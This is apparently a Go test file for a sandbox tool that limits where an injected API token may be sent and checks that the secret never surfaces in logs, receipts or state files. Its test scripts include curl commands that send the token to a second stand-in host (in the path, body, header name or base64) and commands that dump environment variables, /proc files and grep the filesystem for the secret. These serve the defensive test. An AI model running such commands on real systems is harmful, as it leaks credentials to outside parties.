package main

import (
	"encoding/base64"
	"encoding/hex"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// secret is the value of the credential, in a form that no redaction rule
// recognises.
const secret = "correct horse battery staple 7291"

func credentialPolicy() string {
	endpoint := "port: 443, protocol: rest, access: full"
	return rule("host: api.example.com, "+endpoint+"}, {host: other.example.com, "+endpoint, "/usr/bin/curl") + `credentials:
  token:
    endpoints: [{host: api.example.com, port: 443, path: "/private/**"}]
    expose_as: API_TOKEN
    replace_in_headers: [Authorization]
    replace_in_query: [key]
`
}

// vault is a server that knows the secret.
func vault() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if _, given, _ := r.BasicAuth(); given != secret && r.Header.Get("Authorization") != "Bearer "+secret && r.URL.Query().Get("key") != secret {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		_, _ = io.WriteString(w, payload+"\n")
	})
}

func newVault(t *testing.T) (l *lab, api, other *site) {
	t.Helper()
	need(t, "/usr/bin/curl")
	l = newLab(t)
	api, other = l.site("api.example.com", vault()), l.site("other.example.com", vault())
	l.env = []string{"LAB_SECRET=" + secret}
	l.flags = []string{"--credential", "token=env:LAB_SECRET"}
	return l, api, other
}

// TestEgressPlaceholder sends the placeholder to its endpoint, and elsewhere.
func TestEgressPlaceholder(t *testing.T) {
	t.Parallel()
	for _, p := range []struct {
		name, script string
		passes       bool
	}{
		{"header", `-H "Authorization: Bearer $API_TOKEN" https://api.example.com/private/a`, true},
		{"basic", `-u "me:$API_TOKEN" https://api.example.com/private/a`, true},
		{"query", `"https://api.example.com/private/a?key=$API_TOKEN"`, true},
		{"own host, another parameter", `"https://api.example.com/private/a?title=$API_TOKEN"`, false},
		{"own host, part of a header", `-A "ua-$API_TOKEN" https://api.example.com/private/a`, false},
		{"own host, another header", `-H "X-Amz-Meta-A: $API_TOKEN" https://api.example.com/private/a`, false},
		{"own host, body", `-d "title=$API_TOKEN" https://api.example.com/private/a`, false},
		{"own host, path", `"https://api.example.com/private/$API_TOKEN"`, false},
		{"other path", `-H "Authorization: Bearer $API_TOKEN" https://api.example.com/public`, false},
		{"other host", `-H "Authorization: Bearer $API_TOKEN" https://other.example.com/private/a`, false},
		{"other host, basic", `-u "me:$API_TOKEN" https://other.example.com/private/a`, false},
		{"other host, query", `"https://other.example.com/private/a?key=$API_TOKEN"`, false},
		{"other host, path", `"https://other.example.com/private/$API_TOKEN"`, false},
		{"other host, body", `-d "key=$API_TOKEN" https://other.example.com/private/a`, false},
		{"other host, name of a header", `-H "$API_TOKEN: x" https://other.example.com/private/a`, false},
		{"other host, base64", `-H "X-Key: $(printf %s "$API_TOKEN" | base64 -w0)" https://other.example.com/private/a`, false},
	} {
		t.Run(p.name, func(t *testing.T) {
			t.Parallel()
			l, api, other := newVault(t)
			o := l.run(credentialPolicy(), `test -n "$API_TOKEN" && curl -sS -w '%{http_code}\n' `+p.script)
			if p.passes {
				o.says(0, payload)
				return
			}
			o.says(0, "403")
			found := false
			for _, r := range o.events {
				found = found || r.Class == finding
			}
			if !found {
				t.Errorf("no finding\n%s", o.denials())
			}
			other.untouched(t)
			api.untouched(t)
		})
	}
}

// TestEgressSecret uses a credential and looks for its value in everything that
// the cell can see, and in everything that the program wrote.
func TestEgressSecret(t *testing.T) {
	t.Parallel()
	l, _, _ := newVault(t)
	o := l.run(credentialPolicy(), `curl -sS -v -H "Authorization: Bearer $API_TOKEN" https://api.example.com/private/a 2>&1
curl -sS -H "Authorization: Bearer $API_TOKEN" https://other.example.com/private/a
env; cat /proc/*/environ /proc/*/cmdline /proc/net/* /etc/resolv.conf /etc/hosts 2>/dev/null
grep -a -r -F 'correct horse' / --exclude-dir=sys --exclude-dir=usr --exclude-dir=proc 2>/dev/null | grep -v "$PWD"
for p in /proc/[0-9]*; do cat $p/maps $p/status $p/stat; done 2>/dev/null
echo "$API_TOKEN" >token; exit 0`)
	o.says(0, payload)
	texts := map[string]string{"output": o.said}
	// The same by the operator's file.
	l.flags = nil
	l.ok(os.MkdirAll(filepath.Join(l.dir, "home", ".config", "forkcell"), 0o700))
	l.ok(os.WriteFile(filepath.Join(l.dir, "home", ".config", "forkcell", "credentials"), []byte("token=env:LAB_SECRET for api.example.com\n"), 0o600))
	o = l.run(credentialPolicy(), `curl -sS -v -H "Authorization: Bearer $API_TOKEN" https://api.example.com/private/a 2>&1; env`)
	o.says(0, payload)
	texts["output, by the file"] = o.said
	for _, args := range [][]string{
		{"receipt", "show", "--cell", "box", "--latest", "--format", "md"},
		{"receipt", "show", "--cell", "box", "--latest", "--format", "json"},
		{"receipt", "show", "--cell", "box", "--latest", "--format", "dsse"},
		{"events", "query", "--json", "--limit", "10000"},
		{"logs", "box"},
		{"log", "box"},
		{"diff", "box", "--all", "--patch"},
		{"policy", "show", "box"},
		{"status", "box", "--json"},
	} {
		code, out, errs := l.forkcell(args...)
		if code != 0 {
			t.Errorf("%q: exit %d: %s", args, code, errs)
		}
		texts[strings.Join(args, " ")] = out + errs
	}
	state := filepath.Join(l.dir, "state")
	written := 0
	l.ok(filepath.WalkDir(state, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		data, err := os.ReadFile(path)
		texts[path] = string(data)
		written++
		return err
	}))
	if written == 0 {
		t.Error("nothing was looked at")
	}
	for where, text := range texts {
		for _, form := range forms(secret) {
			if strings.Contains(text, form) {
				t.Errorf("%s holds the value as %q", where, form)
			}
		}
	}
}

// forms are the spellings in which a value could have been written down.
func forms(value string) []string {
	auth := base64.StdEncoding.EncodeToString([]byte(value))
	return []string{
		value, strings.ReplaceAll(value, " ", "%20"), strings.ReplaceAll(value, " ", "+"),
		auth, strings.TrimRight(auth, "="), hex.EncodeToString([]byte(value)), strings.ToUpper(value),
	}
}
